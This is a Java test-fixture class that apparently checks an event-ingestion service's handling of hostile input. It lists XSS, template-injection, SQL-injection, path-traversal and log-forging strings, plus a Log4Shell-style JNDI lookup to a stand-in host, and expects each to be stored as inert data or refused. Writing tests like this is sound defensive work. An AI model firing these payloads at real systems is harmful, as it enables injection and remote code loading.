package tracenova.testkit.badinput;

import static tracenova.testkit.badinput.Expected.accepted;

import java.util.List;

/// B106 to B117 and B153 to B161: Unicode, ids, and text that is only data.
final class TextCases {

    /// As they stand between the quotes of JSON.
    private static final List<String> DATA = List.of(
            "<script>alert(1)</script>", "\\\"><img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
            "javascript:alert(1)", "data:text/html,<b>x</b>", "{{7*7}}", "${7*7}", "#{7*7}",
            "${jndi:ldap://evil.example/a}",
            "__proto__", "constructor.prototype", "toString", "length", "=1+1", "+1", "-1", "@SUM(A1)",
            "'; DROP TABLE x",
            "\\\" OR 1=1 --", "attribute_exists(pk)", ":v", "#n", "../../../etc/hosts", "s3://bucket/key", "/leading",
            "</script><!--", "]]>", "%00%2e%2e", "a\\\\b", "\\/", "null", "undefined", "0", "*", "-", "~", "%", "%2d",
            "👩‍👩‍👧‍👦", "🏳️‍🌈🇩🇪", "a" + "\u0301".repeat(999), "\u202eevil", "\u2028", "\\u2028",
            "\ufffe\uffff\ufdd0",
            "\\uFFFE\\uFFFF", "\\u00e9", "e\u0301", "İıſK", "passwordless", "author", "secretary", "1.2.3.4567");

    /// Only in texts: no control character stands in an id.
    private static final List<String> CONTROLS = List.of(
            "\\u0000", "a\\r\\nINFO forged", "\\u001b[2J", "\\t=1+1", "\\r=1", "\\u0001\\u001f", "\u007f", "\u0085",
            "\\u0085");

    private final Cases cases;

    TextCases(Cases cases) {
        this.cases = cases;
    }

    void add() {
        for (var place : Place.values()) {
            for (var text : DATA) {
                taken("B109-B112-B153-B160", place, values(text) + "," + name(text));
                if (isId(text)) {
                    session("B114-B117", place, text);
                }
            }
            for (var text : CONTROLS) {
                taken("B108-B109", place, values(text) + "," + name(text));
                refused("B108", place, "\"user_id\":\"" + text + "\"", "/user_id");
            }
            surrogates(place);
            ids(place);
            long64(place);
        }
    }

    /// Neither blank nor too long.
    private static boolean isId(String text) {
        return text.length() < 200 && !text.equals("\u2028") && !text.equals("\\u2028");
    }

    private static String values(String text) {
        return "\"url\":\"" + text + "\",\"previous_screen\":\"" + text + "\",\"metadata\":{\"a\":[\"" + text + "\"]}";
    }

    private static String name(String text) {
        return "\"extra\":{\"" + text + "\":1}";
    }

    private void surrogates(Place place) {
        for (var half : List.of("\\ud83d", "\\uDE00", "a\\ud83d", "\\ud83d\\ud83d\\ude00", "\\ude00\\ud83d",
                "\\ud83dx")) {
            var id = cases.id("B106");
            var whole = half.replaceAll("\\\\u(?i:d83d)(?!\\\\ude00)|(?<!\\\\ud83d)\\\\u(?i:de00)", "\uFFFD");
            var sent = place.event(id, "\"note\":\"" + half + "\",\"extra\":{\"" + half + "\":1}");
            // A text that must change is written anew, so its other escapes become letters.
            var stored = place.event(id, "\"note\":\"" + whole + "\",\"extra\":{\"" + whole + "\":1}")
                    .replace("\\ud83d\\ude00", "😀");
            add("B106", place, sent, accepted(stored));
            refused("B107", place, "\"user_id\":\"" + half + "\"", "/user_id");
        }
        var pair = place.event(cases.id("B111"), "\"note\":\"\\ud83d\\ude00\"");
        add("B111", place, pair, accepted(pair));
    }

    private void ids(Place place) {
        for (var session : List.of("a#b", "APP#x", "a/b", "a b", "-", "*", "~", "%", "%2a", " x ", "\\u00e9", "é",
                "e\u0301",
                "0F8FAD5B-D9CB-469F-A165-70867728950E", "0f8fad5b-d9cb-469f-a165-70867728950e", "😀".repeat(200))) {
            session("B114", place, session);
        }
        for (var blank : List.of("", " ", "   ", "\\u200b", "\\u00a0", "\\ufeff")) {
            refused("B115", place, "\"user_id\":\"" + blank + "\"", "/user_id");
        }
    }

    private void long64(Place place) {
        for (var hostile : List.of("a@".repeat(30_000), "-----BEGIN RSA PRIVATE KEY-----" + "A".repeat(60_000),
                "token=".repeat(10_000), "1".repeat(60_000), "(".repeat(60_000), "eyJ".repeat(20_000),
                ".".repeat(60_000))) {
            var event = place.event(cases.id("B161"), "\"note\":\"" + hostile + "\"");
            add("B161", place, event, accepted());
        }
    }

    private void taken(String row, Place place, String members) {
        cases.taken(row, place, members);
    }

    private void session(String row, Place place, String session) {
        var event = place.event(cases.id(row), session, "");
        add(row, place, event, accepted(event));
    }

    private void refused(String row, Place place, String member, String pointer) {
        cases.invalid(row, place, member, "invalid_id", pointer);
    }

    private void add(String row, Place place, String event, Expected expected) {
        cases.add(row, place, place.document(event), expected);
    }
}
